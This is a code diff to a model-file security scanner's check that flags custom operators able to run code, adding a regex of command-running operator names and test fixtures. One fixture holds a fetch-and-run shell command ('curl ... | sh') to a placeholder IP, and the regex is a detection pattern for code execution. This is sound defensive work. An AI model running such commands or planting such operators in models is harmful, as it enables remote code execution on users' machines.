@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 from toadstone.core.check import Check, check
@@ -23,6 +24,12 @@ _KNOWN = frozenset({
 
 _NEEDS = {"pmml": "is a function outside the standard, which evaluators look up as a class by its name"}
 """What operators of a domain need, where it is no native library."""
+_JUDGED = frozenset({"tensorflow", "tensorflow.training"})
+_RUNNING = re.compile(
+    r"(?:.*[a-z_.])?(?:Shell(?:Exec(?:ute)?|Command|Op)?|Subprocess(?:Run)?|Popen|(?:Run|Exec(?:ute)?|System)Command|SystemCall|"
+    r"SystemConfig|ExecuteOp|PyCall|PyExec|PyEval|PythonOp|RunPython|PythonCall|ExecPython|EvalCode|ExecCode|LoadLibrary|Dlopen)(?:Op|V\d)?",
+)
+"""Names of operators that can only mean that commands or code are run."""
 
 _REMOTE = frozenset({"AzureAudioToText", "AzureTextToText", "AzureTritonInvoker", "OpenAIAudioToText"})
 _SHIPPED = """
@@ -56,7 +63,7 @@ class CustomOperator(Check):
     """The model's graph calls operators that its runtime does not have.
 
     ## Why it matters
-    An ONNX graph made of standard operators is data. An operator of any other domain is a name for code that somebody has to
+    A graph made of standard operators is data. An operator of any other domain is a name for code that somebody has to
     load into the process first: a native library, or a Python function. A model that "only needs this small library" is how
     code is delivered next to a harmless-looking graph; an operator that calls Python, or sends its inputs to a server, needs
     nothing else.
@@ -64,12 +71,15 @@ class CustomOperator(Check):
     ## How it decides
     `high`: operators that run Python (`PyOp`, `PyCustomOp`, `PythonOp`, `PythonOpGrad`, `TritonOp` in any domain, and
     operators of the domains of onnxruntime-extensions that the library itself does not have: these exist only as Python
-    functions), and operators of an unknown domain that are given a command, code, an address or a path. `medium`: operators
+    functions), operators of an unknown domain that are given a command, code, an address or a path, and unknown ones whose name
+    says that they run commands (`ShellExecute`, `PyCall`). `medium`: operators
     that send the model's inputs to a server, and every operator of an unknown domain. Silent: `ai.onnx`, `ai.onnx.ml`,
     `ai.onnx.training`, ONNX Runtime's own `com.microsoft` domains, the operators that onnxruntime-extensions ships, functions
     that the model defines itself, and domains in `allow`.
 
     ## What it misses
+    The names are those of ONNX domains; for TensorFlow (`tensorflow.custom`), TensorFlow Lite (`tflite.custom`), Core ML
+    (`coreml.custom`) and PaddlePaddle (`paddle.custom`) the domain stands for all operators that the runtime does not have.
     What a library does once it is loaded, and operators that a runtime was patched to replace.
 
     ## Remedy
@@ -86,8 +96,8 @@ class CustomOperator(Check):
     def examine(self, fact: Operator) -> Iterator[Finding]:
         """Judge one operator."""
         full = f"{fact.domain}::{fact.name}"
-        if fact.domain in self.allow or full in self.allow or fact.domain.startswith("torchscript:"):
-            return  # TorchScript has a check of its own
+        if fact.domain in self.allow or full in self.allow or fact.domain.startswith("torchscript:") or fact.domain in _JUDGED:
+            return  # these have checks of their own
         if fact.name in _PYTHON or (fact.domain in _EXTENSIONS and fact.name not in _EXTENSION_OPERATORS | _REMOTE):
             severity, why = Severity.HIGH, "runs Python code of the host"
         elif fact.domain in _EXTENSIONS and fact.name in _REMOTE:
@@ -116,6 +126,7 @@ class CustomOperator(Check):
         yield Operator(place, "ai.onnx.contrib", "MyPreprocessing", "node")
         yield Operator(place, "com.microsoft.extensions", "AzureTextToText", "node")
         yield Operator(place, "my.library", "Fused", "node")
+        yield Operator(place, "tensorflow.custom", "ShellExecute", "node")
         yield Operator(place, "my.library", "Exec", "node", (("command", "curl http://192.0.2.7/x | sh"),))
 
     @classmethod
@@ -125,10 +136,13 @@ class CustomOperator(Check):
         yield Operator(place, "com.microsoft", "FusedMatMul", "node")
         yield Operator(place, "com.microsoft.nchwc", "Conv", "node")
         yield Operator(place, "ai.onnx.contrib", "BertTokenizer", "node")
+        yield Operator(Place("model/saved_model.pb"), "tensorflow", "SaveV2", "node")
 
 
 def _foreign(fact: Operator) -> tuple[Severity, str]:
-    """Judge an operator of an unknown domain by what it is given."""
+    """Judge an operator of an unknown domain by what it is called and given."""
+    if _RUNNING.fullmatch(fact.name):
+        return Severity.HIGH, "is not part of the runtime, and its name says that it runs commands or code"
     looks = looks_of([fact.name, *(value for _, value in fact.arguments)])
     given = [look.value for look in Look if look in looks and look in _PAYLOAD]
     needs = _NEEDS.get(fact.domain, "needs a native library that is not part of the runtime")
